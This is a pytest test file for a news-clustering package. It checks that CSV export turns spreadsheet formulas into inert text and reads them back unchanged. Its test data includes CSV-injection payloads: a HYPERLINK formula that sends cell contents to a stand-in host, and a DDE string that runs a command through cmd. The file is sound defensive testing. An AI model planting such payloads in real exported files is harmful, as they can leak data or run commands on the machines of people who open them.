"""What a spreadsheet would run as a formula is text to it, and to newsclust what it was."""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
import pytest

import newsclust as nc
from newsclust.run import csv_cells
from newsclust.run.csv_cells import as_csv, as_it_was, inert, write_csv

FORMULAS = [
    '=HYPERLINK("x.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1",
    "\r=1",
    "'=1",
    "＝1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_is_written_as_text_and_read_as_it_was(cell):
    assert inert(cell) == f"'{cell}" and as_it_was(inert(cell)) == cell


@pytest.mark.parametrize("cell", ["-5", "+1,000", "-3.5%", "-1e5", "'Quoted' by him", "Storm", "", None, -5, 0.5])
def test_numbers_and_plain_text_are_written_as_they_are(cell):
    assert inert(cell) is cell and as_it_was(cell) is cell


def test_names_of_columns_are_no_formulas_either_and_numbers_stay_numbers():
    rows = pd.DataFrame({"=1+1": ["a", "=b"], "n": [-1.5, 2.0], "whole": pd.array([-1, None], dtype="Int64")})
    read = pd.read_csv(io.StringIO(as_csv(rows)[1:]))
    assert list(read) == ["'=1+1", "n", "whole"] and read["'=1+1"].tolist() == ["a", "'=b"]
    assert read["n"].tolist() == [-1.5, 2.0] and read["whole"][0] == -1
    assert as_csv(pd.DataFrame(columns=["=a"])) == "\ufeff'=a\n"


@pytest.mark.parametrize("n", [0, 1, 2, 7])
def test_rows_that_are_written_in_blocks_are_the_file(monkeypatch, n):
    monkeypatch.setattr(csv_cells, "_BLOCK", 2)
    titles = [f"=1,\n'{row}" if row % 2 else None for row in range(n)]
    rows = pd.DataFrame({"a\nb": titles, "n": pd.array(range(n), dtype="Int64"), "x": [row / 3 for row in range(n)]})
    write_csv(Path("rows.csv"), rows)
    assert Path("rows.csv").read_bytes().decode() == as_csv(rows)


def test_a_run_of_formulas_is_read_back_as_it_was_and_its_results_have_the_same_documents(toy_model):
    titles = [f"{cell.strip()} storm {number}" for number, cell in enumerate(FORMULAS)]
    pd.DataFrame({"title": titles, "=link": ["http://x.example"] * len(titles)}).to_csv("mine.csv", index=False)
    nc.find("mine.csv", columns={"url": "=link"}, output="out")
    assert not [line for line in Path("out/clusters.csv").read_text().splitlines() if line[:1] in "=+-@"]
    run = nc.read_run("out")
    assert sorted(run.points["title"]) == sorted(nc.read("mine.csv").documents["title"])
    assert set(run.points["url"]) == {"http://x.example"}
    assert nc.read("out/clusters.csv").ids == run.ids.tolist()
